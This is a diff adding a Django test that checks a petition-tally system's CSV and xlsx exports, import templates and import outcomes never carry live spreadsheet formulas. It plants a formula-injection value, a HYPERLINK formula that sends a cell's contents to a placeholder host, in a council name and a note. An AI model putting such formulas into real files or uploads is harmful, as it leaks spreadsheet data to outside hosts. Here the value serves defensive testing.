@@ -125,3 +125,116 @@ def test_table_title_and_headers_are_shared(setup):
     table = tally_table(petition=petition, as_of=D(2024, 3, 1))
     assert table.title.endswith("2024年3月1日現在")
     assert table.headers[-1] == "団体署名"
+
+
+# --- exports run nothing (issue 7) -----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+
+
+def assert_no_live_formula_in_xlsx(content):
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    seen = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
+                    seen.append(cell.value)
+    return seen
+
+
+def assert_no_live_formula_in_csv(text):
+    seen = []
+    for row in csv.reader(io.StringIO(text)):
+        for value in row:
+            if value.startswith("-"):
+                float(value)  # a negative number is a number; anything else starting with "-" would run
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            seen.append(value)
+    return seen
+
+
+def test_a_formula_in_a_council_name_and_a_note_runs_in_no_export(client, setup, tmp_path, settings):
+    """Every CSV and xlsx the system writes: tally tables (page, command), import templates, import outcomes."""
+    from petitions.models import TallyEntry
+
+    user, petition = setup
+    evil = local_council("14", name=FORMULA, short_name="")
+    record(user, petition, evil, 7, collected_on=D(2024, 1, 21))
+    TallyEntry.objects.filter(council=evil).update(note=FORMULA)
+    client.force_login(user)
+    national = reverse("petitions:national", args=["kaigo"])
+    prefecture = reverse("petitions:prefecture", args=["kaigo", "14"])
+    files = {
+        "national xlsx": client.get(national, {"date": AS_OF, "format": "xlsx"}).content,
+        "prefecture xlsx": client.get(prefecture, {"date": AS_OF, "format": "xlsx"}).content,
+        "import template xlsx": client.get(reverse("admin:petitions_tallyentry_import_template"), {"format": "xlsx"}),
+    }
+    files["import template xlsx"] = files["import template xlsx"].content
+    target = tmp_path / "out.xlsx"
+    call_command(
+        "tally_table",
+        petition="kaigo",
+        date=AS_OF,
+        prefecture="14",
+        format="xlsx",
+        out=str(target),
+        stderr=io.StringIO(),
+    )
+    files["command xlsx"] = target.read_bytes()
+    texts = {
+        "prefecture csv": client.get(prefecture, {"date": AS_OF, "format": "csv"}).content.decode("utf-8-sig"),
+        "prefecture csv cp932": client.get(
+            prefecture, {"date": AS_OF, "format": "csv", "encoding": "cp932"}
+        ).content.decode("cp932"),
+    }
+    out = io.StringIO()
+    call_command("tally_table", petition="kaigo", date=AS_OF, prefecture="14", format="csv", stdout=out)
+    texts["command csv"] = out.getvalue()
+
+    # The import outcome, for a file naming the council and carrying the note.
+    upload = io.StringIO(newline="")
+    csv.writer(upload, lineterminator="\r\n").writerows(
+        [
+            ["社保協", "筆数", "日付", "備考"],
+            [str(evil.pk), "3", "2024-01-22", FORMULA],
+            ["どこ", "x", "2024-01-22", "+1"],
+        ]
+    )
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    body = client.post(
+        reverse("admin:petitions_tallyentry_import"),
+        {
+            "petition": petition.pk,
+            "encoding": "",
+            "file": SimpleUploadedFile("a.csv", upload.getvalue().encode()),
+            "_preview": "1",
+        },
+    ).content.decode()
+    import re
+
+    token = re.search(r"import/outcome/\?token=([0-9A-Za-z_-]+)", body).group(1)
+    outcome_url = reverse("admin:petitions_tallyentry_import_outcome")
+    texts["import outcome csv"] = client.get(outcome_url, {"token": token}).content.decode("utf-8-sig")
+    files["import outcome xlsx"] = client.get(outcome_url, {"token": token, "format": "xlsx"}).content
+    texts["import template csv"] = client.get(
+        reverse("admin:petitions_tallyentry_import_template"), {"format": "csv"}
+    ).content.decode("utf-8-sig")
+
+    for name, content in files.items():
+        seen = assert_no_live_formula_in_xlsx(content)
+        if name != "national xlsx" and name != "import template xlsx":
+            assert "'" + FORMULA in seen, name  # the text is there, as text
+    for name, text in texts.items():
+        seen = assert_no_live_formula_in_csv(text)
+        if name != "import template csv":
+            assert "'" + FORMULA in seen, name
+    # The council's name is in the template's council list, as text.
+    assert "'" + FORMULA in assert_no_live_formula_in_xlsx(files["import template xlsx"])
+    # Numbers stay numbers.
+    sheet = openpyxl.load_workbook(io.BytesIO(files["prefecture xlsx"])).active
+    evil_row = next(r for r in sheet.iter_rows(values_only=True) if r[1] == "'" + FORMULA)
+    assert evil_row[4] == 7
